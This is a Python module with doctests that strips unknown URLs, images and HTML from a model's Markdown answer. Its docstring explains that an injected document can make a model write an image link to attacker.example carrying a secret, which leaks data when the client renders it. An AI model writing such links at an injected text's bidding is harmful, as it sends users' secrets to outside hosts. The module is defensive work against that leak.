r"""Links in an answer that carry data away.

Many clients render answers as Markdown. A picture is then fetched without a click, from wherever its address
says: a document that makes a model write `![](https://attacker.example/?q=SECRET)` has sent the secret away. So an
address may leave only if exactly it stands in what the model was given: one that stands there carries nothing
new. Pictures and HTML elements do not leave as such at all.

>>> Links(["see https://intranet.example/a"]).cleaned("At https://intranet.example/a, not https://x.example/?61387.")
'At https://intranet.example/a, not [link left out].'
>>> Links([]).cleaned("![chart](//x.example/61387)")
'! [chart] [link left out]'
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Final

LEFT_OUT: Final = "[link left out]"
"""What stands where an address was."""

_SPACE: Final = r"\s<>\"`"
_ADDRESS: Final = re.compile(
    # A scheme and slashes of either kind; browsers read `https:x` like `https://x`.
    r"(?:(?<![A-Za-z0-9+.-])[A-Za-z][A-Za-z0-9+.-]{1,30}:[/\\]|(?:https?|ftp|wss?):[/\\]"
    rf"|(?<![A-Za-z0-9])https?:(?=\S))[^{_SPACE}]*"
    # What linkifiers take for an address without a scheme: two slashes, or a name with a path or a query.
    rf"|(?<![\w:/\\])[/\\]{{2}}[\w-]+\.[^{_SPACE}]+"
    rf"|(?<![\w@./\\-])(?:www\.[^{_SPACE}]+"
    rf"|(?:[\w-]{{1,63}}\.){{1,8}}[^\W\d_]{{2,24}}(?::[0-9]{{1,5}})?[/?][^{_SPACE}]+)"
)
_BEHIND: Final = ".,;:!?'*_~)]}|"
_SENTENCE: Final = re.compile(r"[.,:!?*_~)]{0,3}")
"""What may stand right behind an address: everybody knows that it is no part of it."""
_TARGET: Final = re.compile(r"\](?P<open>\([ \t]*\n?[ \t]*)(?P<to><[^>\n]*>?|(?:(?!\]\()[^\s<>])*)")
_INSIDE: Final = re.compile(r"(?![/\\])[\w./#%+~=,@()\[\]-]*", re.ASCII)
"""The target of a link that leads to no other host, however it is read: no scheme, no entity, no leading slash."""
_DEFINED: Final = re.compile(
    r"^([ >*-]{0,8}\[[^\]\n]{1,999}\])(?=:[ \t]{0,8}(?:\n|$|<|[^\s]{0,40}[/\\&.]))", re.MULTILINE
)
"""A name for an address, at the beginning of a line."""
_ELEMENT: Final = re.compile(r"<(?=/?[A-Za-z][\w:-]*(?:[\s/]|$)|(?:script|style)\b|!)", re.IGNORECASE)
_PICTURE: Final = re.compile(r"!(?=\[)")
_SUSPECT: Final = re.compile(r"[<\[\]/\\:?]|www\.", re.IGNORECASE)
_STRADDLING: Final = re.compile(r"[!-~]+")


def addresses(text: str) -> set[str]:
    """Return every address in a text, without the punctuation behind it. Linear."""
    found = {_bare(match.group()) for match in _ADDRESS.finditer(text)}
    found.update(_bare(match.group("to").strip("<>")) for match in _TARGET.finditer(text))
    return found


def _bare(address: str) -> str:
    return address.rstrip(_BEHIND)


class Links:
    """Cleans one answer, piece by piece. `sources` are all texts that the model was given.

    Attributes:
        left_out: how many addresses, pictures and elements did not leave as such.

    """

    def __init__(self, sources: Iterable[str]) -> None:
        self._sources = tuple(sources)
        self._known: set[str] | None = None
        self._open = False
        self.left_out = 0

    def cleaned(self, text: str, *, last: bool = True) -> str:
        """Return the text without addresses that its sources do not have. Linear.

        Pieces end where a sentence or line does, or in the middle of a very long word. Then an address at the very
        end counts as unknown, and so does the rest of the word in the next piece.
        """
        joined = _STRADDLING.match(text) if self._open else None
        if joined and not {"/", "\\"}.isdisjoint(joined.group()):
            text = LEFT_OUT + text[joined.end() :]
            self.left_out += 1
        elif joined and text[0] in "[(:":
            text = f" {text}"
        self._open = not last and bool(text) and not text[-1].isspace()
        if _SUSPECT.search(text):
            text = _TARGET.sub(self._target, text)
            text = _ADDRESS.sub(self._address, text)
            for pattern, broken in ((_PICTURE, "! "), (_ELEMENT, "< "), (_DEFINED, r"\1 ")):
                text, several = pattern.subn(broken, text)
                self.left_out += several
        return text

    def _target(self, match: re.Match[str]) -> str:
        """Return a link's target, or what stands for it."""
        to = match.group("to")
        bare = _bare(to)
        at_end = match.end() == len(match.string) and (self._open or not to)
        inside = _INSIDE.fullmatch(bare) is not None and "\n" not in match.group("open")
        if not at_end and (inside or self._knows(_bare(to.strip("<>")))):
            return match.group()
        self.left_out += 1
        return f"] {LEFT_OUT}{to[len(bare) :].removeprefix(')')}"

    def _address(self, match: re.Match[str]) -> str:
        """Return an address, or what stands for it."""
        whole = match.group()
        bare = _bare(whole)
        behind = whole[len(bare) :]
        if self._knows(bare) and not (self._open and match.end() == len(match.string)):
            return whole if _SENTENCE.fullmatch(behind) else f"{bare} {behind}"
        self.left_out += 1
        return f"{LEFT_OUT}{behind}"

    def _knows(self, address: str) -> bool:
        if self._known is None:
            self._known = {one for text in self._sources for one in addresses(text)}
        return address in self._known
